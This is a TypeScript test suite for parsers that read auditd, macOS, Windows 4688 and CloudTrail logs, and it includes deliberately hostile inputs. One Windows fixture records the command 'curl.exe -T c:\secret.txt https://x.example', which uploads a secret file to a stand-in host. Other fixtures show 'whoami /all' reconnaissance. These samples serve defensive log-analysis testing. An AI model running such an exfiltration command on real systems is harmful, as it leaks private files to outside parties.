// docs/evidence-from-before.md: logs of systems, each in the form that its source documents.
import { describe, expect, it } from 'vitest';
import { LOG_READERS, type LogItem, logReaderOf } from '../../../src/actions/logs/index.ts';

async function collected(items: AsyncIterable<LogItem>): Promise<LogItem[]> {
  const all: LogItem[] = [];
  for await (const item of items) all.push(item);
  return all;
}

/** The items of a log, read in pieces of a size. */
async function read(text: string, size = text.length): Promise<LogItem[]> {
  const reader = logReaderOf(text.slice(0, 65_536));
  if (reader === null) throw new Error('no log');
  async function* pieces(): AsyncGenerator<string> {
    for (let at = 0; at < text.length; at += size) yield text.slice(at, at + size);
  }
  return collected(reader.read(pieces()));
}

/** Numbers of 64 bits, as a double does not keep them. */
const ID = '2841823461113886721';

const events = (items: readonly LogItem[]) => items.flatMap((item) => (item.kind === 'event' ? [item.event] : []));

const EXECVE = `type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=59 success=yes exit=0 a0=55d items=2 ppid=2686 pid=3538 auid=1000 uid=1000 gid=1000 tty=pts0 ses=1 comm="ls" exe="/usr/bin/ls" key="runs"\u001dARCH=x86_64 SYSCALL=execve AUID="ada" UID="ada"
type=EXECVE msg=audit(1364481363.243:24287): argc=4 a0="ls" a1="-l" a2=2F746D702F6D7920666F6C646572 a3="größe"
type=CWD msg=audit(1364481363.243:24287): cwd="/home/ada"
type=PATH msg=audit(1364481363.243:24287): item=0 name="/usr/bin/ls" inode=1 nametype=NORMAL
type=PROCTITLE msg=audit(1364481363.243:24287): proctitle=6C73002D6C
`;
const OPENAT = `type=SYSCALL msg=audit(1364481364.001:24288): arch=c00000b7 syscall=56 success=no exit=-13 items=1 ppid=1 pid=7 uid=1000 comm="cat" exe="/usr/bin/cat"
type=CWD msg=audit(1364481364.001:24288): cwd="/home/ada"
type=PATH msg=audit(1364481364.001:24288): item=0 name="secret.txt" nametype=NORMAL
`;
const MACOS = [
  {
    traceID: 1,
    eventMessage: 'ada : TTY=ttys001 ; PWD=/Users/ada/work ; USER=root ; COMMAND=/bin/ls -l /etc',
    eventType: 'logEvent',
    timestamp: '2026-11-21 12:00:05.123456+0200',
    processImagePath: '/usr/bin/sudo',
    processID: 501,
    userID: 0,
  },
  {
    traceID: 2,
    eventMessage: 'hello',
    timestamp: '2026-11-21 12:00:06.5-0700',
    processImagePath: '/bin/zsh',
    processID: 7,
  },
  { count: 2, finished: 1 },
];
const XML_4688 = {
  Event: {
    System: {
      EventID: 4688,
      EventRecordID: 227746,
      Computer: 'WIN-ADA',
      TimeCreated: { '#attributes': { SystemTime: '2026-11-21T10:00:05.120000Z' } },
    },
    EventData: {
      SubjectUserName: 'ada',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\curl.exe',
      ProcessId: '0x4',
      CommandLine: 'curl.exe -T c:\\secret.txt https://x.example',
    },
  },
};
const POWERSHELL_4688 = {
  Id: 4688,
  RecordId: 9,
  MachineName: 'WIN-ADA',
  TimeCreated: '/Date(1795255205120)/',
  Properties: ['S-1', 'ada', 'WIN', 999, 6700, 'C:\\Windows\\System32\\whoami.exe', '%%1936', 4, 'whoami /all'].map(
    (Value) => ({
      Value,
    }),
  ),
};
const CLOUDTRAIL = {
  Records: [
    {
      eventVersion: '1.08',
      eventTime: '2026-11-21T10:00:05Z',
      eventSource: 'ec2.amazonaws.com',
      eventName: 'StartInstances',
      sourceIPAddress: '203.0.113.7',
      userIdentity: { type: 'IAMUser', userName: 'ada' },
      requestParameters: { instancesSet: { items: [{ instanceId: 'i-0}{' }] } },
      eventID: 'e-1',
    },
    {
      eventTime: '2026-11-21T10:00:06Z',
      eventSource: 's3.amazonaws.com',
      eventName: 'GetObject',
      errorCode: 'AccessDenied',
      eventID: 'e-2',
    },
  ],
};

describe('a Linux audit log', () => {
  it('gives a process its words, those in hexadecimal digits decoded, and what auditd looked up', async () => {
    const [event] = events(await read(EXECVE));
    expect(event).toMatchObject({
      kind: 'process',
      at: 1_364_481_363_243,
      id: '1364481363.243:24287',
      user: 'ada',
      pid: 3538,
      parentPid: 2686,
      program: '/usr/bin/ls',
      args: ['ls', '-l', '/tmp/my folder', 'größe'],
      path: '/home/ada',
      succeeded: true,
      line: 1,
      endLine: 5,
    });
  });

  it('joins the records of an event that others stand between, by their serial number', async () => {
    const lines = [...EXECVE.trimEnd().split('\n'), ...OPENAT.trimEnd().split('\n')];
    const mixed = [0, 5, 1, 6, 2, 7, 3, 4].map((index) => lines[index]).join('\n');
    const found = events(await read(mixed));
    expect(found.map(({ kind, path }) => [kind, path])).toEqual([
      ['process', '/home/ada'],
      ['file', '/home/ada/secret.txt'],
    ]);
    expect(found[1]).toMatchObject({ succeeded: false, program: '/usr/bin/cat' });
  });

  it('joins a long word that is written in pieces', async () => {
    const long = EXECVE.replace('a3="größe"', 'a3_len=4 a3[0]=6162 a3[1]=6364');
    expect(events(await read(long))[0]?.args.at(-1)).toBe('abcd');
  });

  it('says of an interpreted record that its time has no zone', async () => {
    const items = await read(
      `${OPENAT}type=SYSCALL msg=audit(03/28/2013 11:16:03.243:24287) : arch=x86_64 syscall=execve\n`,
    );
    expect(items).toContainEqual({ kind: 'unread', line: 4, reason: expect.stringContaining('interpreted') });
  });

  it('keeps no more events open than it has room for', async () => {
    const many = Array.from(
      { length: 5_000 },
      (_, index) => OPENAT.split('\n')[0]?.replace('24288', String(index)) ?? '',
    );
    expect(events(await read(many.join('\n')))).toHaveLength(5_000);
  });
});

describe('logs in JSON', () => {
  it.each([
    ['an array', JSON.stringify(MACOS, null, 2)],
    ['an object a line', MACOS.map((entry) => JSON.stringify(entry)).join('\n')],
  ])('reads the unified log of macOS as %s', async (_, text) => {
    const [sudo, zsh] = events(await read(text));
    expect(sudo).toMatchObject({
      kind: 'process',
      at: Date.parse('2026-11-21T10:00:05.123Z'),
      program: '/bin/ls',
      args: ['/bin/ls -l /etc'],
      path: '/Users/ada/work',
    });
    expect(zsh).toMatchObject({ kind: 'message', program: '/bin/zsh', at: Date.parse('2026-11-21T19:00:06.5Z') });
  });

  it.each([
    [
      'evtx_dump',
      JSON.stringify(XML_4688),
      'C:\\Windows\\System32\\curl.exe',
      6700,
      'curl.exe -T c:\\secret.txt https://x.example',
    ],
    ['Get-WinEvent', JSON.stringify([POWERSHELL_4688]), 'C:\\Windows\\System32\\whoami.exe', 6700, 'whoami /all'],
  ])('reads event 4688 of Windows as %s writes it', async (_, text, program, pid, line) => {
    const [event] = events(await read(text));
    expect(event).toMatchObject({ kind: 'process', program, pid, args: [line], user: 'ada', host: 'WIN-ADA' });
    expect(event?.at).toBe(Date.parse('2026-11-21T10:00:05.120Z'));
  });

  it('passes over other events of Windows', async () => {
    const other = { ...XML_4688, Event: { ...XML_4688.Event, System: { ...XML_4688.Event.System, EventID: 4624 } } };
    expect(await read(JSON.stringify([other, XML_4688]))).toHaveLength(1);
  });

  it('reads the records of AWS CloudTrail, braces in texts and all', async () => {
    const found = events(await read(JSON.stringify(CLOUDTRAIL)));
    expect(found.map(({ program, succeeded, user }) => [program, succeeded, user])).toEqual([
      ['ec2.amazonaws.com StartInstances', true, 'ada'],
      ['s3.amazonaws.com GetObject', false, null],
    ]);
  });

  it('says of a time without its offset that it could be any', async () => {
    const text = JSON.stringify({ ...MACOS[1], timestamp: '2026-11-21 12:00:06' });
    expect(await read(text)).toEqual([{ kind: 'unread', line: 1, reason: expect.stringContaining('offset') }]);
  });

  it('says of an object that does not end that it does not, and reads those before it', async () => {
    const items = await read(`${JSON.stringify(CLOUDTRAIL).slice(0, -30)}`);
    expect(items.map(({ kind }) => kind)).toEqual(['event', 'unread']);
  });
});

describe('every reader', () => {
  const ALL = [
    EXECVE + OPENAT,
    JSON.stringify(MACOS),
    JSON.stringify([XML_4688, POWERSHELL_4688]),
    JSON.stringify(CLOUDTRAIL),
  ];

  it('is told by the beginning of its log alone', () => {
    expect(ALL.map((text) => logReaderOf(text)?.kind)).toEqual(['auditd', 'macos', 'windows', 'cloudtrail']);
    expect(LOG_READERS.map(({ kind }) => kind).toSorted()).toEqual(['auditd', 'cloudtrail', 'macos', 'windows']);
    expect(logReaderOf('{"format":"countersign-bundle","records":[]}')).toBeNull();
  });

  it('takes no bundle for a log, whatever its records have in their payloads', () => {
    for (const text of ALL.slice(1)) {
      const log: unknown = JSON.parse(text);
      expect(logReaderOf(JSON.stringify({ records: [{ eor: { payload: { log } } }], org: {} }))).toBeNull();
    }
  });

  it.each([1, 7, 64])('reads the same in pieces of %i characters', async (size) => {
    for (const text of ALL) expect(await read(text, size)).toEqual(await read(text));
  });

  it('ends with every prefix of a log, whatever is missing', async () => {
    for (const text of ALL) {
      const reader = logReaderOf(text);
      for (let length = 1; length < text.length; length += 13) {
        const part = text.slice(0, length);
        async function* once(): AsyncGenerator<string> {
          yield part;
        }
        if (reader !== null) await collected(reader.read(once()));
      }
    }
  });
});

describe('a hostile log', () => {
  it('of auditd is read in time that grows with it, whatever its lines are', async () => {
    const line = (serial: number, rest: string) => `type=SYSCALL msg=audit(1364481363.243:${serial}): ${rest}\n`;
    const word = 'a'.repeat(2_000_000);
    const system = 'arch=constructor syscall=name exe="/bin/ls"';
    expect(events(await read(line(1, word) + line(2, `${word} arch=c000003e syscall=59`) + line(3, system)))).toEqual([
      expect.objectContaining({ kind: 'process', id: '1364481363.243:2' }),
    ]);
  });

  it('of auditd does not fill the memory with events that never end', async () => {
    const long = `exe="${'x'.repeat(1_000_000)}"`;
    const first = [...Array(64).keys()].map(
      (n) => `type=SYSCALL msg=audit(1364481363.243:${n}): arch=c000003e syscall=59 ${long}\n`,
    );
    let taken = 0;
    async function* lines(): AsyncGenerator<string> {
      for (const text of first) {
        taken++;
        yield text;
      }
    }
    const reader = logReaderOf(first[0]?.slice(0, 65_536) ?? '');
    const items = reader?.read(lines());
    expect((await items?.next())?.done).toBe(false);
    expect(taken).toBeLessThan(first.length);
  });

  it('of macOS is read in time that grows with it', async () => {
    const entry = {
      eventMessage: 'PWD= ; '.repeat(9_000),
      timestamp: '2026-11-21 12:00:05.123456+0200',
      processImagePath: '/x',
    };
    expect(events(await read(`${JSON.stringify(entry)}\n`))).toMatchObject([{ kind: 'message' }]);
  });
});

describe('an id of 64 bits', () => {
  it.each([
    ['the unified log of macOS', `${JSON.stringify(MACOS[0])}\n`.replace('"traceID":1', `"traceID":${ID}`)],
    [
      'AWS CloudTrail',
      `{"Records":[{"eventTime":"2026-11-21T12:00:05Z","eventSource":"a","eventName":"B","eventID":"e","requestParameters":{"order":${ID},"name":"x"}}]}`,
    ],
  ])('is kept to its last digit: %s', async (_, text) => {
    const [event] = events(await read(text));
    expect(JSON.stringify(event)).toContain(ID);
  });
});
